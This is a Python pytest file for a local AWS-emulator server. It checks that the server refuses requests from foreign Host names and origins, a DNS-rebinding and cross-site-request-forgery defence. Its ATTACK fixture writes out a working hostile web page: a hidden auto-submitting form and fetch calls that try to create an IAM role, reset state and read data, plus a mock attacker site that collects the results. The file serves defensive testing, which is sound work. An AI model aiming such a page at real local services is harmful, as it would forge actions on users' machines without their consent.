"""Pages of other origins cannot drive a server on localhost: asked as browsers ask, and in a real browser."""

from __future__ import annotations

import http.server
import json
import queue
import shutil
import subprocess
import threading
import urllib.error
import urllib.request
from contextlib import closing
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest

from tests.conftest import LiveServer

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
CREATE_QUEUE = b"Action=CreateQueue&QueueName=forged&Version=2012-11-05"


def answer_to(url: str, body: bytes | None = None, method: str | None = None, **headers: Any) -> tuple[int, Any]:
    request = urllib.request.Request(url, body, {k.replace("_", "-"): v for k, v in headers.items()}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.headers
    except urllib.error.HTTPError as error:
        with closing(error):
            return error.code, error.headers


@pytest.mark.parametrize("host", ["evil.example", "evil.example:4566", "localhost.evil.example", "127.0.0.1.nip.io"])
def test_a_name_that_anybody_can_point_here_is_refused(server: LiveServer, host: str) -> None:
    assert answer_to(f"{server.url}/", Host=host)[0] == 403
    assert answer_to(f"{server.url}/_localmaker/info", Host=host)[0] == 403


@pytest.mark.parametrize(
    "host", ["localhost", "127.0.0.1:1", "[::1]:4566", "localmaker", "host.docker.internal", "x.localhost"]
)
def test_names_that_can_mean_only_this_machine(server: LiveServer, host: str) -> None:
    assert answer_to(f"{server.url}/_localmaker/health", Host=host)[0] == 200


FOREIGN: list[dict[str, Any]] = [
    {"Origin": "http://evil.example"},
    {"Origin": "null"},
    {"Origin": "http://localhost:3000"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"},
    {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate"},
]


@pytest.mark.parametrize("headers", FOREIGN)
def test_pages_of_other_origins_are_refused_everywhere(server: LiveServer, headers: dict[str, Any]) -> None:
    for path, body in (
        ("/", CREATE_QUEUE),
        ("/bucket", None),
        ("/_localmaker/info", None),
        ("/_localmaker/reset", b"{}"),
    ):
        given = headers | (FORM if body == CREATE_QUEUE else {})
        status, answered = answer_to(f"{server.url}{path}", body, **given)
        assert status == 403, (path, headers)
        assert answered["Access-Control-Allow-Origin"] is None


def test_pages_of_this_server_are_let_in(server: LiveServer) -> None:
    own: dict[str, Any] = {"Origin": server.url, "Sec-Fetch-Site": "same-origin"}
    assert (
        answer_to(f"{server.url}/_localmaker/clock", b'{"offset_s": 0}', Content_Type="application/json", **own)[0]
        == 200
    )


def test_a_link_to_a_presigned_url_may_be_followed(server: LiveServer, aws: Callable[..., Any], account: str) -> None:
    s3, name = aws("s3"), f"link-{account}"
    s3.create_bucket(Bucket=name)
    s3.put_object(Bucket=name, Key="page.html", Body=b"<p>hello", ContentType="text/html")
    url = s3.generate_presigned_url("get_object", {"Bucket": name, "Key": "page.html"})
    link: dict[str, Any] = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    status, headers = answer_to(url, **link)
    assert status == 200
    assert headers["Content-Security-Policy"].startswith("sandbox ")
    assert "allow-same-origin" not in headers["Content-Security-Policy"]
    assert answer_to(url, method="DELETE", **link)[0] == 403
    assert answer_to(url, Origin="http://evil.example", **link)[0] == 403


@pytest.fixture(scope="module")
def open_to_one(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    settings = {"allowed_origins": "http://app.example:3000", "allowed_hosts": "sagemaker.corp.example"}
    live = LiveServer(tmp_path_factory.mktemp("open") / "data", settings)
    live.start()
    yield live
    live.stop()


def test_origins_and_hosts_that_the_user_lists(open_to_one: LiveServer) -> None:
    url, origin = f"{open_to_one.url}/", "http://app.example:3000"
    status, headers = answer_to(url, method="OPTIONS", Origin=origin, Access_Control_Request_Method="POST",
                                Access_Control_Request_Headers="x-amz-target,authorization")  # fmt: skip
    assert (status, headers["Access-Control-Allow-Origin"]) == (204, origin)
    assert headers["Access-Control-Allow-Headers"] == "x-amz-target,authorization"
    status, headers = answer_to(url, b"Action=GetCallerIdentity&Version=2011-06-15", Origin=origin, **FORM)
    assert (status, headers["Access-Control-Allow-Origin"]) == (200, origin)
    assert (
        answer_to(url, b"Action=GetCallerIdentity&Version=2011-06-15", Origin="http://other.example", **FORM)[0] == 403
    )
    assert answer_to(f"{url}_localmaker/health", Host="sagemaker.corp.example")[0] == 200


ATTACK = """<!doctype html><title>attack</title><form id=f method=post target=hidden
 action="SERVER/"><input name=Action value=CreateRole><input name=RoleName value=forged-by-form><input
 name=AssumeRolePolicyDocument value="{}"></form><iframe name=hidden></iframe>
<script>
const out = {}, server = "SERVER";
async function attempt(name, path, options) {
  try {
    const answer = await fetch(server + path, options);
    out[name] = answer.type + " " + answer.status + " " + (await answer.text()).slice(0, 40);
  } catch (error) { out[name] = "blocked"; }
}
(async () => {
  const form = new URLSearchParams({Action: "CreateRole", RoleName: "forged", AssumeRolePolicyDocument: "{}"});
  await attempt("read", "/_localmaker/info");
  await attempt("simple", "/", {method: "POST", body: form, mode: "no-cors"});
  await attempt("reset", "/_localmaker/reset", {method: "POST", body: "{}", mode: "no-cors"});
  await attempt("target", "/", {method: "POST", body: "{}", headers: {"X-Amz-Target": "SageMaker.ListModels"}});
  await attempt("put", "/forged-bucket", {method: "PUT"});
  document.getElementById("f").submit();
  await new Promise(done => document.querySelector("iframe").addEventListener("load", done, {once: true}));
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


@dataclass
class Attacker:
    """A site on another port: serves the attacking page, and hears from it what came of it."""

    target: str
    reports: queue.Queue[dict[str, str]] = field(default_factory=queue.Queue)

    def handler(self) -> type[http.server.BaseHTTPRequestHandler]:
        """Return what answers the site's requests."""
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                place = urlsplit(attacker.target)
                here = self.headers["Host"].partition(":")[0]  # rebound: the page's own name leads to the server too
                page = ATTACK.replace("SERVER", f"http://{here}:{place.port}").encode()
                self.answer(page)

            def do_POST(self) -> None:
                attacker.reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.answer(b"")

            def answer(self, content: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *_: object) -> None:
                pass

        return Handler

    def browse(self, name: str, port: int, profile: Path) -> dict[str, str]:
        """Open the page in Chromium under a host name; give its report."""
        command = [
            CHROMIUM or "", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync",
            "--disable-background-networking", "--disable-component-update", "--remote-debugging-port=0",
            f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.example 127.0.0.1", f"http://{name}:{port}/",
        ]  # fmt: skip
        with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
            try:
                return self.reports.get(timeout=60)
            finally:
                browser.terminate()


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_a_page_in_a_real_browser_can_neither_read_nor_change_anything(
    server: LiveServer, aws: Callable[..., Any], account: str, tmp_path: Path
) -> None:
    aws("s3").create_bucket(Bucket=f"there-{account}")
    attacker = Attacker(server.url)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), attacker.handler()) as serving:
        threading.Thread(target=serving.serve_forever, daemon=True).start()
        for name in ("127.0.0.1", "evil.example"):
            report = attacker.browse(name, serving.server_port, tmp_path / name)
            # What is sent without asking first is sent, and refused (below); its answer is not the page's to read.
            assert report == {"read": "blocked", "simple": "opaque 0 ", "reset": "opaque 0 ", "target": "blocked",
                              "put": "blocked"}  # fmt: skip
        serving.shutdown()
    roles = aws("iam", account="000000000000").list_roles()["Roles"]
    assert [role["RoleName"] for role in roles if "forged" in role["RoleName"]] == []
    assert [bucket["Name"] for bucket in aws("s3").list_buckets()["Buckets"]] == [f"there-{account}"]
